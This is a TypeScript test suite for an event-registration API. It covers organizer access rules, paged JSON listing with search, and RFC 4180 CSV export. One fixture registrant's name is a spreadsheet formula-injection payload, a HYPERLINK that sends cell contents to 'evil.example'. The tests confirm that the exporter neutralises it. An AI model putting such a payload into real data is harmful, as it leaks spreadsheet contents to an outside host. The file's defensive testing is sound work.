import t from 'tap'
import type { Test } from 'tap'
import type { LightMyRequestResponse } from 'fastify'
import { sql } from 'drizzle-orm'
import { registrations } from '../../../src/db/schema.js'
import { CSV_COLUMNS, registrationsCsv } from '../../../src/features/registrations/attendee-list.service.js'
import { csvCell, prefersCsv } from '../../../src/features/registrations/csv.js'
import { build, eventBody } from '../../helpers/app.js'
import { problem } from '../../helpers/problem.js'

// The organizer's list of an event's registrations, paged as JSON and exported as CSV.

type Auth = { authorization: string } | undefined
type Item = { id: string; name: string; email: string; status: string; ticketId: string | null }

/** RFC 4180, strictly: quoted fields may hold commas, CRLF and doubled quotes; every record ends with CRLF. */
function parseCsv(text: string): string[][] {
  const records: string[][] = []
  let record: string[] = []
  let i = 0
  for (;;) {
    let field = ''
    if (text[i] === '"') {
      i++
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field')
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"'
            i += 2
            continue
          }
          i++
          break
        }
        field += text[i++]
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`bare quote at ${i}`)
        field += text[i++]
      }
    }
    record.push(field)
    if (text[i] === ',') {
      i++
      continue
    }
    if (text.slice(i, i + 2) !== '\r\n') throw new Error(`expected CRLF at ${i}`)
    i += 2
    records.push(record)
    record = []
    if (i === text.length) return records
  }
}

async function setup(t: Test) {
  const ctx = await build(t)
  const admin = await ctx.account('admin')
  const organizer = await ctx.account('organizer')
  const inject = (method: 'GET' | 'POST' | 'PUT' | 'DELETE', url: string, headers?: Record<string, string>, payload?: unknown) =>
    ctx.app.inject({ method, url, headers, ...(payload === undefined ? {} : { payload: payload as object }) })

  async function event(overrides: Record<string, unknown> = {}, publish = true) {
    const created = await inject('POST', '/v1/events', admin.auth, eventBody(overrides))
    t.equal(created.statusCode, 201)
    const { id, slug } = created.json()
    t.equal((await inject('PUT', `/v1/events/${id}/organizers/${organizer.id}`, admin.auth)).statusCode, 200)
    if (publish) t.equal((await inject('POST', `/v1/events/${id}/publish`, admin.auth)).statusCode, 200)
    return { id: id as string, slug: slug as string }
  }

  async function register(eventId: string, body: Record<string, unknown>) {
    const res = await inject('POST', `/v1/events/${eventId}/registrations`, {}, { consent: { privacy: true }, ...body })
    t.equal(res.statusCode, 201, `registered ${body.email}`, { body: res.body })
    return res.json() as { id: string; status: string; manageToken: string; ticket?: { id: string } }
  }

  /** As the event's organizer unless told otherwise; null: without credentials. */
  const list = (eventId: string, query = '', auth: Auth | null = organizer.auth, accept?: string) =>
    inject('GET', `/v1/events/${eventId}/registrations${query}`, { ...auth, ...(accept ? { accept } : {}) })

  return { ...ctx, admin, organizer, inject, event, register, list }
}

// Everyone the CSV has to survive: separators, quotes and line breaks inside cells, formulas, every script.
const PEOPLE = [
  { email: 'anna@example.org', name: 'Anna Schmidt', partySize: 2 },
  { email: 'sukru@example.org', name: 'Şükrü Öztürk', language: 'tr' },
  { email: 'mohammed@example.org', name: 'محمد الأحمد', language: 'ar' },
  { email: 'evil@example.org', name: '=HYPERLINK("http://evil.example/?x="&A1,"Klick")' },
  { email: '+1-dial@example.org', name: 'Bob, "der Baumeister"', accessibilityNeeds: 'Rollstuhl,\r\nbitte Rampe "Nord"' },
  { email: 'rabatt@example.org', name: 'Max 100% Müller', accessibilityNeeds: '@Sitzplatz' },
  { email: 'max1000@example.org', name: 'Max 1000 Müller', accessibilityNeeds: '-' },
  { email: 'under_score@example.net', name: 'Tab\u00a0Nobody' },
]

t.test('csv helpers', async (t) => {
  t.equal(csvCell('plain'), 'plain')
  t.equal(csvCell('a,b'), '"a,b"')
  t.equal(csvCell('say "hi"'), '"say ""hi"""')
  t.equal(csvCell('two\nlines'), '"two\nlines"')
  t.equal(csvCell('=1+1'), "'=1+1")
  t.equal(csvCell('+49 231'), "'+49 231")
  t.equal(csvCell('-2'), "'-2")
  t.equal(csvCell('@SUM(A1)'), "'@SUM(A1)")
  t.equal(csvCell('\tx'), "'\tx")
  t.equal(csvCell('\rx'), `"'\rx"`)
  t.equal(csvCell('=A1,B1'), `"'=A1,B1"`, 'neutralised, then quoted')
  t.equal(csvCell(3), '3', 'numbers are data, not text that could be a formula')
  t.equal(csvCell(null), '')

  t.ok(prefersCsv('text/csv'))
  t.ok(prefersCsv('text/csv, application/json;q=0.9'))
  t.ok(prefersCsv('application/json;q=0.5, text/csv'))
  t.notOk(prefersCsv(undefined))
  t.notOk(prefersCsv('*/*'))
  t.notOk(prefersCsv('application/json'))
  t.notOk(prefersCsv('text/csv;q=0.5, application/json'))
  t.notOk(prefersCsv('text/csv;q=0'))
})

t.test('who may list', async (t) => {
  const ctx = await setup(t)
  const published = await ctx.event()
  const draft = await ctx.event({}, false)
  const otherOrganizer = await ctx.account('organizer')
  const exhibitor = await ctx.account('exhibitor')
  const visitor = await ctx.register(published.id, PEOPLE[0])

  problem(t, await ctx.list(published.id, '', null), 401, 'unauthenticated')
  problem(t, await ctx.list(published.id, '', null, 'text/csv'), 401, 'unauthenticated')
  problem(t, await ctx.list(published.id, '', exhibitor.auth), 403, 'forbidden')
  problem(t, await ctx.list(published.id, '', otherOrganizer.auth), 403, 'forbidden')
  problem(t, await ctx.list(published.id, '', otherOrganizer.auth, 'text/csv'), 403, 'forbidden')
  problem(t, await ctx.list(draft.id, '', otherOrganizer.auth), 404, 'not_found')
  // a visitor's manage token is a credential, just not one that manages the event
  problem(t, await ctx.list(published.id, '', { authorization: `Bearer ${visitor.manageToken}` }), 403, 'forbidden')
  problem(t, await ctx.list('no-such-fair'), 404, 'not_found')
  t.equal((await ctx.list(published.id)).statusCode, 200, 'its organizer')
  t.equal((await ctx.list(published.slug)).statusCode, 200, 'by slug')
  t.equal((await ctx.list(draft.id, '', ctx.admin.auth)).statusCode, 200, 'admin')
})

t.test('JSON list: filters, search and pages', async (t) => {
  const ctx = await setup(t)
  const fair = await ctx.event({ visitorCapacity: 6, waitlist: true })
  const other = await ctx.event()
  const created = []
  for (const person of PEOPLE) created.push(await ctx.register(fair.id, person))
  await ctx.register(other.id, { email: 'anna@example.org', name: 'Anna Schmidt' })
  const cancelled = created[1]
  t.equal((await ctx.inject('DELETE', `/v1/registrations/${cancelled.id}`, { authorization: `Bearer ${cancelled.manageToken}` })).statusCode, 204)

  const all = await ctx.list(fair.id)
  t.equal(all.statusCode, 200)
  t.match(String(all.headers['content-type']), /^application\/json/)
  const { items, nextCursor } = all.json()
  t.equal(nextCursor, null)
  t.same(items.map((i: Item) => i.id), created.map((c) => c.id), 'all of this event, first registered first')
  t.match(items[0], {
    id: created[0].id,
    status: 'confirmed',
    name: 'Anna Schmidt',
    email: 'anna@example.org',
    partySize: 2,
    language: 'de',
    accessibilityNeeds: null,
    ticketId: created[0].ticket!.id,
    cancelledAt: null,
    erasedAt: null,
  })
  t.notOk('ticket' in items[0] || 'code' in items[0], 'no ticket code in the list')
  const byId = new Map(items.map((i: Item) => [i.id, i]))
  t.match(byId.get(cancelled.id), { status: 'cancelled', ticketId: null }, 'a revoked ticket is no ticket')
  t.match(byId.get(created[4].id), { accessibilityNeeds: 'Rollstuhl,\r\nbitte Rampe "Nord"' })

  const statuses = async (status: string) => (await ctx.list(fair.id, `?status=${status}`)).json().items.map((i: Item) => i.status)
  const waitlisted = await statuses('waitlisted')
  t.ok(waitlisted.length > 0, 'some are waitlisted')
  t.ok(waitlisted.every((s: string) => s === 'waitlisted'))
  t.same(await statuses('cancelled'), ['cancelled'])
  t.equal((await statuses('confirmed')).length + waitlisted.length + 1, PEOPLE.length)
  problem(t, await ctx.list(fair.id, '?status=erased'), 400, 'invalid_request')

  const names = async (q: string, query = '') =>
    (await ctx.list(fair.id, `?q=${encodeURIComponent(q)}${query}`)).json().items.map((i: Item) => i.name)
  t.same(await names('MAX'), ['Max 100% Müller', 'Max 1000 Müller'], 'case-insensitive')
  t.same(await names('100%'), ['Max 100% Müller'], '% is a character, not a wildcard')
  t.same(await names('x_mple'), [], '_ is a character, not a wildcard (else every example.org matched)')
  t.same(await names('under_score'), ['Tab\u00a0Nobody'], 'found by email, _ literally')
  t.same(await names('EXAMPLE.NET'), ['Tab\u00a0Nobody'], 'email, case-insensitive')
  t.same(await names('Öztürk'), ['Şükrü Öztürk'], 'unicode')
  t.same(await names('الأحمد'), ['محمد الأحمد'])
  // Six places: Max 100% was waitlisted and took the place the cancellation freed; Max 1000 still waits.
  t.same(await names('max', '&status=confirmed'), ['Max 100% Müller'], 'filters combine')
  t.same(await names('max', '&status=waitlisted'), ['Max 1000 Müller'])
  problem(t, await ctx.list(fair.id, '?q=a'), 400, 'invalid_request')
  problem(t, await ctx.list(fair.id, `?q=${'x'.repeat(101)}`), 400, 'invalid_request')

  // Page by page, two at a time: every registration once, in the same order.
  const walked: string[] = []
  let cursor: string | null = null
  let pages = 0
  do {
    const res = await ctx.list(fair.id, `?limit=2${cursor ? `&cursor=${cursor}` : ''}`)
    t.equal(res.statusCode, 200)
    const page = res.json()
    t.ok(page.items.length <= 2)
    walked.push(...page.items.map((i: Item) => i.id))
    cursor = page.nextCursor
    pages++
  } while (cursor && pages < 20)
  t.equal(pages, Math.ceil(PEOPLE.length / 2))
  t.same(walked, created.map((c) => c.id))
  problem(t, await ctx.list(fair.id, '?cursor=bm9wZQ'), 400, 'invalid_request')
  problem(t, await ctx.list(fair.id, '?limit=201'), 400, 'invalid_request')
})

t.test('pages stay exact when many registrations share a millisecond', async (t) => {
  const ctx = await setup(t)
  const fair = await ctx.event()
  const at = (micros: string) => sql`${`2027-01-01T10:00:00.${micros}Z`}::timestamptz`
  // Six in the same millisecond (two in the same microsecond), one just after.
  const stamps = ['123100', '123200', '123200', '123300', '123400', '123500', '124000']
  await ctx.db.insert(registrations).values(
    stamps.map((micros, i) => ({
      eventId: fair.id,
      email: `same-ms-${i}@example.org`,
      name: `Same ${i}`,
      partySize: 1,
      language: 'de',
      status: 'waitlisted' as const,
      consentPrivacyAt: new Date(),
      createdAt: at(micros) as unknown as Date,
    })),
  )
  const everyone = (await ctx.list(fair.id, '?limit=200')).json().items.map((i: Item) => i.id)
  t.equal(everyone.length, stamps.length)
  const walked: string[] = []
  let cursor: string | null = null
  do {
    const page: { items: Item[]; nextCursor: string | null } = (await ctx.list(fair.id, `?limit=1${cursor ? `&cursor=${cursor}` : ''}`)).json()
    walked.push(...page.items.map((i) => i.id))
    cursor = page.nextCursor
  } while (cursor)
  t.same(walked, everyone, 'nothing skipped, nothing twice')
})

t.test('CSV export', async (t) => {
  const ctx = await setup(t)
  const fair = await ctx.event({ visitorCapacity: 100 })
  const created = []
  for (const person of PEOPLE) created.push(await ctx.register(fair.id, person))

  const res = await ctx.list(fair.id, '?limit=1', ctx.organizer.auth, 'text/csv')
  t.equal(res.statusCode, 200, { body: res.body.slice(0, 400) })
  t.equal(res.headers['content-type'], 'text/csv; charset=utf-8')
  t.equal(res.headers['content-disposition'], `attachment; filename="registrations-${fair.slug}.csv"`)
  t.same([...res.rawPayload.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 byte order mark')
  const text = res.rawPayload.toString('utf8')
  t.equal(text.charCodeAt(0), 0xfeff)
  const [header, ...rows] = parseCsv(text.slice(1))
  t.same(header, CSV_COLUMNS)
  t.same(header, ['id', 'status', 'name', 'email', 'partySize', 'language', 'accessibilityNeeds', 'createdAt', 'cancelledAt'])
  t.equal(rows.length, PEOPLE.length, 'every registration: limit does not apply to the export')
  t.same(rows.map((r) => r[0]), created.map((c) => c.id), 'in registration order')
  const row = (email: string) => Object.fromEntries(header.map((h, i) => [h, rows.find((r) => r[3] === email || r[3] === `'${email}`)![i]]))

  t.match(row('anna@example.org'), { status: 'confirmed', name: 'Anna Schmidt', partySize: '2', language: 'de', accessibilityNeeds: '', cancelledAt: '' })
  t.match(row('anna@example.org').createdAt, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/)
  t.equal(row('sukru@example.org').name, 'Şükrü Öztürk', 'unicode intact')
  t.equal(row('mohammed@example.org').name, 'محمد الأحمد')
  t.equal(row('evil@example.org').name, `'=HYPERLINK("http://evil.example/?x="&A1,"Klick")`, 'formula neutralised')
  const bob = row('+1-dial@example.org')
  t.equal(bob.email, "'+1-dial@example.org", 'a cell starting with + is neutralised too')
  t.equal(bob.name, 'Bob, "der Baumeister"', 'comma and quotes survive')
  t.equal(bob.accessibilityNeeds, 'Rollstuhl,\r\nbitte Rampe "Nord"', 'line breaks survive')
  t.equal(row('rabatt@example.org').accessibilityNeeds, "'@Sitzplatz")
  t.equal(row('max1000@example.org').accessibilityNeeds, "'-")
  t.ok(text.includes(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klick"")",`), 'quoted as RFC 4180 says')

  // Filters apply; a cancelled registration shows when.
  const anna = created[0]
  await ctx.inject('DELETE', `/v1/registrations/${anna.id}`, { authorization: `Bearer ${anna.manageToken}` })
  const cancelled = parseCsv((await ctx.list(fair.id, '?status=cancelled', ctx.organizer.auth, 'text/csv')).body.slice(1))
  t.equal(cancelled.length, 2)
  t.equal(cancelled[1][0], anna.id)
  t.match(cancelled[1][8], /^\d{4}-\d\d-\d\dT/)
  const found = parseCsv((await ctx.list(fair.id, '?q=100%25', ctx.organizer.auth, 'text/csv')).body.slice(1))
  t.same(found.slice(1).map((r) => r[2]), ['Max 100% Müller'])
  const none = await ctx.list(fair.id, '?q=nobody-at-all', ctx.organizer.auth, 'text/csv')
  t.equal(none.body, `\uFEFF${CSV_COLUMNS.join(',')}\r\n`, 'no match: the header alone')

  // JSON unless CSV is asked for.
  t.match(String((await ctx.list(fair.id, '', ctx.organizer.auth, '*/*')).headers['content-type']), /^application\/json/)
  t.match(String((await ctx.list(fair.id, '', ctx.organizer.auth, 'text/csv;q=0.5, application/json')).headers['content-type']), /^application\/json/)

  // Read in chunks, the stream is the same file.
  const collect = async (chunk: number) => {
    let out = ''
    for await (const part of await registrationsCsv(ctx.db, fair.id, {}, chunk)) out += part
    return out
  }
  const whole = await collect(500)
  t.equal(whole, (await ctx.list(fair.id, '', ctx.organizer.auth, 'text/csv')).body, 'what the route streams')
  t.equal(await collect(1), whole, 'chunks of one')
  t.equal(await collect(3), whole, 'chunks of three (the last one short)')
  t.equal(await collect(PEOPLE.length), whole, 'chunk of exactly all (one more empty read)')
})
